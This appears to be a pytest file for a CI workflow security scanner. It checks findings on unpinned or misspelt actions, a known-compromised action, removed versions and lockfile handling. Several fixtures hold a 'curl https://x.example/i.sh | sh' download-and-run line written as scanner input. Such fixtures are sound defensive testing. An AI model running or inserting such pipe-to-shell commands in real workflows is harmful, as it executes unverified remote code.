"""What findings about used and downloaded things show, and what they say."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from guardrail.model.report import Finding, Report
from guardrail.settings import PolicySettings

Scan = Callable[..., Report]

WORKFLOW = """\
name: ci
on: push
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - {step}
"""


def told(scan: Scan, policy: str, step: str, **params: object) -> list[Finding]:
    """The findings of one policy on a workflow with one step."""
    settings = {policy: PolicySettings(params=params)}
    text = WORKFLOW.replace("{step}", step)
    return list(scan({"ci.yaml": text}, profile="none", select=(policy,), policies=settings).findings)


def shown(finding: Finding) -> str:
    """The text that a finding points at."""
    span, excerpt = finding.location.span, finding.location
    at = span.column - 1 - excerpt.excerpt_offset
    return excerpt.excerpt[at : at + span.end_column - span.column]


@pytest.mark.parametrize(
    ("policy", "step", "text", "message"),
    [
        (
            "unpinned-action",
            "uses: acme/main@main",
            "@main",
            "acme/main runs whatever stands at main, a ref that moves",
        ),
        (
            "action-pinned-to-tag",
            "uses: acme/tools/sub@v1",
            "@v1",
            "acme/tools/sub is pinned to a tag, v1, not to a commit",
        ),
        (
            "misspelt-action",
            "uses: aquasec/trivy-action@v1",
            "aquasec",
            "aquasec/trivy-action looks like aquasecurity/trivy-action: aquasec for aquasecurity",
        ),
        (
            "misspelt-action",
            "uses: actions/chekout@v1",
            "chekout",
            "actions/chekout looks like actions/checkout: chekout for checkout",
        ),
        (
            "known-vulnerable-action",
            "uses: tj-actions/changed-files@v35",
            "uses: tj-actions/changed-files@v35",
            "tj-actions/changed-files@v35 has a known hole, CVE-2025-30066 and 1 more, fixed in 46.0.1: "
            "its tags led to code that prints secrets on 2025-03-14",
        ),
        (
            "removed-action-version",
            "uses: actions/upload-artifact@v3",
            "@v3",
            "GitHub fails jobs that use actions/upload-artifact@v3 since 2025-01-30: take v4 or later",
        ),
        (
            "script-piped-to-shell",
            "run: 'true && curl https://x.example/i.sh | sh || true'",
            "curl https://x.example/i.sh | sh",
            "https://x.example/i.sh runs in sh as it comes, unverified",
        ),
        (
            "malformed-uses",
            "uses: actions/checkout",
            "uses: actions/checkout",
            "uses: actions/checkout has no version: write owner/repository@ref",
        ),
    ],
)
def test_place_and_words(scan: Scan, policy: str, step: str, text: str, message: str) -> None:
    (finding,) = told(scan, policy, step)
    assert finding.message == message
    assert shown(finding) == text


def test_the_second_of_two_equal_downloads_has_its_own_place(scan: Scan) -> None:
    step = "run: |\n          curl https://x.example | sh\n          echo\n          curl https://x.example | sh"
    found = told(scan, "script-piped-to-shell", step)
    assert [f.location.span.line for f in found] == [8, 10]


def test_a_version_is_told_once(scan: Scan) -> None:
    """What is removed is neither deprecated nor written for an old Node.js in the same breath."""
    text = WORKFLOW.replace("{step}", "uses: actions/upload-artifact@v3\n      - uses: github/codeql-action/init@v2")
    select = (
        "removed-action-version",
        "deprecated-action-version",
        "outdated-action-runtime",
        "known-vulnerable-action",
    )
    found = scan({"ci.yaml": text}, profile="none", select=select).findings
    assert [f.policy.id for f in found] == ["removed-action-version", "known-vulnerable-action"]


@pytest.mark.parametrize("ref", ["a" * 200_000, "/".join("x" * 50_000), "@" * 50_000])
def test_a_huge_reference_is_a_short_message(scan: Scan, ref: str) -> None:
    ids = ("unpinned-action", "action-pinned-to-tag", "malformed-uses", "obfuscated-uses", "misspelt-action")
    text = WORKFLOW.replace("{step}", f"uses: acme/tools@{ref}")
    for finding in scan({"ci.yaml": text}, profile="none", select=ids).findings:
        assert len(finding.message) < 400


@pytest.mark.parametrize(
    "lockfile",
    ["", "[]", "version: 1", "workflows: [a]", "workflows: {.github/workflows/ci.yml: x}", "dependencies: {x: y}", "{"],
)
def test_a_lockfile_of_another_shape_locks_nothing(scan: Scan, lockfile: str) -> None:
    """Source of the format: `lockfile-v0.0.3.json` in github/gh-actions-lock."""
    files = {
        ".github/workflows/ci.yml": WORKFLOW.replace("{step}", "uses: acme/tools@main"),
        ".github/workflows/actions.lock": lockfile,
    }
    select = ("unpinned-action", "action-missing-from-lockfile")
    found = scan(files, profile="none", select=select).findings
    assert [f.policy.id for f in found] == ["unpinned-action"]
